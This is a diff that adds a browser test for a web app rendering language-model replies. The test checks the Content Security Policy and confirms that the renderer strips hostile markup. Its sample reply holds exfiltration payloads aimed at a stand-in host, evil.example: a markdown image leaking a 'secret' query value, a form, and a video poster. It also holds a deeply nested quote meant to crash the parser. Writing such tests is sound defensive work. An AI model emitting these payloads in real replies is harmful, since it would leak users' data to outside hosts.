@@ -163,3 +163,32 @@ test('offline, the service worker serves the page and the cached model still run
     await server.startModels();
   }
 });
+
+test('replies cannot reach other origins or break the page: CSP (meta and header), no forms or media, render errors fall back to text', async () => {
+  const res = await page.request.get(server.url);
+  const header = res.headers()['content-security-policy'];
+  assert.match(header, /img-src 'self' data: blob:/);
+  assert.match(header, /form-action 'none'/);
+  assert.equal(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content'), header);
+  const r = await page.evaluate(async () => {
+    const html = window.emberlmRenderReply(
+      '![x](http://evil.example/leak?c=secret) <form action="http://evil.example/"><input name="p"></form> <video poster="http://evil.example/p.png"></video> **ok**',
+    );
+    // Rendering 2,000 nested quotes throws inside marked: the reply becomes plain text.
+    const deep = window.emberlmRenderReply('>'.repeat(2000) + ' deep');
+    // The CSP blocks a remote image even if one got into the page.
+    const blocked = await new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
+      const img = document.createElement('img');
+      img.src = 'http://evil.example/pixel.png';
+      document.body.append(img);
+      setTimeout(() => resolve(null), 3000);
+    });
+    return { html, deep: deep.length, blocked, state: document.body.dataset.state };
+  });
+  assert.doesNotMatch(r.html, /<form|<input|<video|poster=|action=/);
+  assert.match(r.html, /<strong>ok<\/strong>/);
+  assert.ok(r.deep > 2000, 'the deep quote is shown as text');
+  assert.match(r.blocked ?? '', /img-src/);
+  assert.equal(r.state, 'ready');
+});
